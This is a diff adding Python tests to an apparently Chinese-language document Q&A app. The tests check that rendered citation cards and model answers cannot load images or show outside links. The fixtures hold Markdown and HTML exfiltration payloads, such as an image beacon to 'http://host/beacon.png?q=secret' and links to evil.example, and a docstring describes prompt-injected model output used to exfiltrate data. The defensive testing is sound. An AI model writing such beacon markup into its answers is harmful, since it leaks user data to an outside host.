@@ -66,3 +66,44 @@ def test_planted_instruction_is_flagged() -> None:
     assert {f.kind for f in flags} == {"in_source"}
     # an ordinary answer is not flagged
     assert answer_risks("服务人员应持有健康证明〔x〕", ["服务人员应持有健康证明。"]) == []
+
+
+_HREF = re.compile(r'(?:href|src)="([^"]*)"')
+
+
+def _no_live_html(html_out: str) -> None:
+    """An HTML card: text escaped, so the only tags are ours and every link is a route of
+    the app or an anchor (Markdown inside an HTML block is not parsed)."""
+    assert "<img" not in html_out, html_out
+    for url in _HREF.findall(html_out):
+        assert url.startswith(("?", "#")), url
+
+
+def test_a_markdown_title_is_inert_in_citation_cards_and_labels() -> None:
+    from qa.citations import Citation
+    from ui import render
+
+    text = (
+        '服务人员应持有健康证明。<img src="http://host/t.png"><a href="http://evil.example">x</a>'
+    )
+    clause = make_clause("4.1", text, doc_title=EVIL_TITLE + "<img src=x>", doc_id="d")
+    citation = Citation.from_clause(clause, 0.9)
+    _no_live_html(render.citation_card(citation, ["健康"]))
+    _no_live_html(render.compact_card(citation, ["健康"], anchor="c1", kb="k"))
+    _no_live_html(render.hit_card(clause, ["健康"], rank=1, score=0.9, route="dense", kb="k"))
+    assert not _LIVE.search(inert_markdown(citation.label))  # an expander/plain label
+
+
+def test_a_model_answer_cannot_fetch_an_image_or_show_a_link() -> None:
+    """A prompt-injected model writing Markdown or HTML exfiltrates nothing."""
+    from qa.citations import Citation
+    from ui import render
+
+    clause = make_clause("4.1", "服务人员应持有健康证明。", doc_title="测试服务规范", doc_id="d")
+    citation = Citation.from_clause(clause, 0.9)
+    answer = (
+        "服务人员应持有健康证明。![x](http://host/beacon.png?q=secret)"
+        '<img src="http://host/b.png"> [点此](http://evil.example) <http://evil.example>'
+    )
+    out = render.answer_html(answer, [citation], ["c1"])  # Markdown with our HTML markers
+    assert not _LIVE.search(out) and not re.search(r"(?<!\\)<img", out), out
